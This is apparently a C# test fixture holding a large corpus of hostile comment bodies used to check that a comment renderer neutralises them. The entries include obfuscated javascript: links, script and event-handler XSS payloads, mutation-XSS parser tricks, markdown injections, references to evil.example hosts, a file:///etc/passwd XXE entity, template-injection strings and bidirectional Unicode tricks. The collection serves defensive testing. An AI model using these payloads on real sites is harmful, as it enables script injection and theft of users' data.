using System.Collections.Immutable;

namespace BackendCareer.Tests.Comments;

/// <summary>Texts of our own making that try to run, load, style, link or hide something, or to leave their place in the page.</summary>
internal static class HostileCorpus
{
    /// <summary>Addresses that must not become a link, or only a harmless one.</summary>
    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "JAVASCRIPT:alert(1)", "javascript://example.org/%0Aalert(1)",
        "javascript:/*https://a.example*/alert(1)",
        "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)", "java\0script:alert(1)", "\0javascript:alert(1)",
        "\u0001javascript:alert(1)",
        "java\u0007script:alert(1)", " javascript:alert(1)", "\u00A0javascript:alert(1)", "\u3000javascript:alert(1)",
        "\u0085javascript:alert(1)",
        "java\u200Bscript:alert(1)", "java\u00ADscript:alert(1)", "java\u202Escript:alert(1)", "\uFEFFjavascript:alert(1)",
        "java\u017Fcript:alert(1)", "javascript\uFF1Aalert(1)",
        "\uFF4A\uFF41\uFF56\uFF41script:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#x0D;script:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script&colon;alert(1)", "javascript&colon;alert&lpar;1&rpar;", "javascript&#58;alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
        "&#x6A;avascript:alert(1)", "&#0000106;avascript:alert(1)", "&#x6Aavascript:alert(1)", "&#14;javascript:alert(1)",
        "&#1;javascript:alert(1)", "&nbsp;javascript:alert(1)",
        "java&ZeroWidthSpace;script:alert(1)", "java&#x202E;script:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)",
        "java%0Ascript:alert(1)", "\\u006Aavascript:alert(1)",
        "\\x6Aavascript:alert(1)", "\\6A avascript:alert(1)", "javascript\\:alert(1)", "java\\\nscript:alert(1)",
        "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>", "DATA:,x",
        "vbscript:msgbox(1)", "livescript:x", "file:///etc/passwd", "blob:https://a.example/1", "about:blank", "chrome://settings",
        "intent://a#Intent;end", "ms-msdt:/id",
        "tel:1", "ftp://a.example/x", "//evil.example", "///evil.example", "\\\\evil.example\\share", "/\\evil.example",
        "https:evil.example", "https:/evil.example",
        "http:\\\\evil.example", "https:javascript:alert(1)", "https://", "https://javascript:alert(1)", "https://[",
        "https://a.example\"onmouseover=alert(1)",
        "https://a.example/'onclick='alert(1)", "https://a.example/`onclick=`", "https://a.example/></a><script>alert(1)</script>",
        "https://good.example@evil.example/",
        "https://a.example/\u202Egnp.exe", "https://a.example/?q=&quot;&gt;&lt;script&gt;", "hTTps://a.example",
        "mailto:a@b.example?body=<script>", "mailto:javascript:alert(1)",
        "mailto:a@b.example\"onclick=alert(1)", "?approve=1", "#comment-form", "../../moderation",
    ];

    private static readonly string[] Carriers =
    [
        "[a]({0})", "[a](<{0}>)", "![a]({0})", "[![a]({0})](https://a.example)", "<{0}>", "[a][r]\n\n[r]: {0}", "[r]: <{0}> 'title'\n\n[r]",
        "[a]({0} \"t\")",
        "[a]({0}", "<a href=\"{0}\">a</a>", "<img src={0}", "> - [*a*]({0})", "x {0} x", "www.a.example/{0}",
    ];

    private static readonly string[] Html =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>", "<script", "</script><script>alert(1)//",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img src=`x`onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<IMG SRC=https://a.example/pixel.gif>",
        "<svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>a",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=data:image/svg+xml,x#y>",
        "<svg><foreignObject><p><style><!--</style><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>", "<math><a xlink:href=javascript:alert(1)>a",
        "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<table><td><a><svg></table><script>alert(1)</script>",
        "<select><style></select><img src=x onerror=alert(1)></style>", "<template><script>alert(1)</script></template>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<!--><script>alert(1)</script>", "<!-- --!><script>alert(1)</script> -->", "<!---><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version=\"1.0\"?><a>",
        "<?php echo 1 ?>", "<!DOCTYPE html><html><body onload=alert(1)>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "]]>",
        "</p></div></article><script>alert(1)</script>", "</div></article></li></ol></section></main>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</bdi></h3></header><h1>New heading</h1>", "</form><form action=//evil.example>", "</body></html><script>alert(1)</script>",
        "<plaintext>", "<textarea>", "<title>", "<!--",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=//evil.example>", "<object data=data:text/html,x>",
        "<embed src=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<style>@import '//evil.example'</style>",
        "<p style=position:fixed;inset:0>x",
        "<form action=//evil.example><button>Sign in", "<input autofocus onfocus=alert(1)>",
        "<button form=comment-form formaction=//evil.example>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>", "<dialog open>x</dialog>",
        "<a href=https://a.example target=_blank>a</a>", "<a id=comment-form name=body>a</a>", "<h1 id=discussion class=comment>a</h1>",
        "<custom-element onclick=alert(1)>", "<x:y xmlns:x=z>", "<p/onclick=alert(1)>x", "< script >alert(1)", "<\u0000script>",
        "\uFF1Cscript\uFF1Ealert(1)", "\u2039script\u203A", "<\u0338script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "&LT;script&GT;", "&lt;/textarea&gt;&lt;script&gt;", "&amp;lt;script&amp;gt;", "&ltscript&gt", "&quot; onclick=alert(1) x=&quot;",
        "\" onclick=\"alert(1)", "' onclick='alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "`onclick=alert(1)`",
        "&#0;", "&#128;", "&#xD800;", "&#x110000;", "&#xFFFE;",
    ];

    private static readonly string[] Markdown =
    [
        "``` \"onload=alert(1)\nx\n```", "```<script>\nx\n```", "~~~ \"><img src=x onerror=alert(1)>\n</code></pre><script>\n~~~",
        "```html onclick=alert(1) class=\"x\"\n<script>alert(1)</script>", "```&quot;&gt;&lt;script&gt;\nx\n```",
        "```language-\u202Ex\ny\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "``</code><script>``",
        "[a](https://a.example \"onmouseover=alert(1)\")", "[a](https://a.example '\"><script>alert(1)</script>')",
        "![\"onerror=alert(1)](https://a.example/x)", "![<script>](https://a.example/\"onerror=\"alert(1))",
        "[<img src=x onerror=alert(1)>](https://a.example)", "[a](https://a.example){onclick=alert(1)}", "[a]{onclick=alert(1)}",
        "a {.comment #comment-form onclick=alert(1)}", "# a {onclick=alert(1)}",
        "[a [b](https://a.example) c](https://b.example)", "[<https://a.example>](https://b.example)",
        "[https://a.example](https://b.example)", "[[[[a]]]](https://a.example)", "[a](((((((https://a.example)))))))",
        "[a](<https://a.example)>)", "[a]: javascript:alert(1)\n[a]: https://a.example\n\n[a]",
        "[a]: https://a.example \"\n<script>\"\n\n[a]", "[^1]\n\n[^1]: <script>alert(1)</script>", "*[HTML]: <script>\n\nHTML",
        "$$\\href{javascript:alert(1)}{a}$$",
        "<https://a.example/\"onclick=alert(1)>", "<javascript:alert(1)@a.example>", "<a@b.example\"onclick=alert(1)>",
        "https://a.example/<script>alert(1)</script>", "https://a.example/*a*_b_`c`", "https://a.example/\"'><", "www.<script>.example",
        "www.a.example\"onclick=alert(1)", "mailto:a@b.example", "HTTP://A.EXAMPLE/\u202Ex",
        "https://\u0440\u0430\u0443\u0440\u0430l.example", "https://a.example:99999/", "https://\u2100.example", "xn--a.example",
        "| a | b |\n|---|---|\n| <script> | [a](javascript:alert(1)) |", "> <script>\n> alert(1)\n> </script>",
        "- <div>\n\n  </div></li></ol>", "1. a\n999999999. b\n0000000000. c", "a\\\n<script>", "a  \n<script>",
        "\\<script\\>alert(1)\\</script\\>", "*<script>*alert(1)*</script>*", "**<img **src=x onerror=alert(1)>",
        "[a](javascript:alert(1)\n)", "\n\n<script>alert(1)</script>", ":::x onclick=alert(1)\ny\n:::", "---\ntitle: <script>\n---",
        "^^^\n<script>\n^^^", "==a== ++b++ ^c^ ~d~ \"\"e\"\"", "<% alert(1) %>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
        "@Html.Raw(1)", "@{ throw null; }",
    ];

    private static readonly string[] Unicode =
    [
        "\u202Egnp.exe", "a\u202Eb\u202Dc\u202C", "a\u2066b\u2067c\u2068d\u2069", "\u061C\u200E\u200Fa", "a\u200Bb\u200Cc\u200Dd",
        "\uFEFFa\uFEFF", "\u2060a\u2063b", "\u00AD\u00AD a", "\U000E0001\U000E0041a\U000E007F", "\uFFF9a\uFFFAb\uFFFB", "\uFDD0\uFFFE a",
        "\uE000 private", "\u0000", "a\u0000b", "a\u0001\u0008\u000B\u000C\u001F\u007Fb", "a\u0080\u0085\u009F b", "a\u2028b\u2029c",
        "\u3164", "\u115F\u1160\uFFA0", "\u2800\u2800", "\uD83D half", "half \uDC00", "\uDC00\uD83D", "\uFFFD replaced",
        "\U0001F468\u200D\U0001F469\u200D\U0001F467 family", "\u1FEF\u1FEFx\u1FEF\u1FEF", "\u212Bngstrom \u2126 \u212A",
        "\uFB1D \u0958 \u0344 \u2ADC", "\uFDFA\uFDFD", "\U00012031\U000102B7", "\r\n\r\n a \r b \n\r", "\t\t a", "\u000Ba\u000C",
        "&#x202E;gnp.exe", "&#8238;&#8237;a", "&lrm;&rlm;a", "&#x2066;a&#x2069;", "&ZeroWidthSpace;&zwj;a", "a&#7;b", "&#xE0041;a",
        "`&#x202E;`", "&shy;&NoBreak;a",
    ];

    private static readonly string[] Long =
    [
        .. new[]
        {
            "a", "W", "\u202E", "\u0327", "x\u0327\u0301", "\U0001F4A3", "&lt;", "&#x327;", "&amp;", "<", "[", "]", "(",
            "![", "](", "<a ", "</", "\"", "\\", "*", "_", "~~", "`", "*a ", "> ", "- ", "1. ", "\t", "\u00A0", "\n", "a\n",
            "|", "[a](", "<!--", "&", "&#", "://", "https://a.example ", "www.", "@a.", "\u0344", "\u1FEF",
        }.SelectMany(
            piece => new[] { 300, 3_900 }.Select(length => "x" + string.Concat(Enumerable.Repeat(piece, length / piece.Length)) + "x")),
        "https://a.example/" + new string('a', 3_900), "[" + new string('a', 3_000) + "](https://a.example)",
        "<a " + string.Concat(Enumerable.Repeat("onclick=alert(1) ", 200)) + ">", "``` " + new string('x', 3_000) + "\ny\n```",
        "&" + new string('a', 3_900) + ";", "&#" + new string('0', 3_000) + "60;script>", new string('a', 4_001),
        new string('\u202E', 4_001),
    ];

    private static readonly string[] Spliced =
        [.. Addresses.SelectMany(address => Carriers.Select(carrier => carrier.Replace("{0}", address, StringComparison.Ordinal)))];

    private static readonly string[] Alone = [.. Html, .. Markdown, .. Unicode, .. Long];

    public static ImmutableArray<string> Bodies { get; } = [.. Spliced.Concat(Alone).Distinct()];

    /// <summary>Each of these costs a write to the disk: every address and every carrier, but not each with each.</summary>
    public static ImmutableArray<string> Stored { get; } = [.. Spliced.Where((_, number) => number % 11 == 0).Concat(Alone).Distinct()];

    public static ImmutableArray<string> Names { get; } = [.. Addresses.Concat(Alone).Distinct()];
}
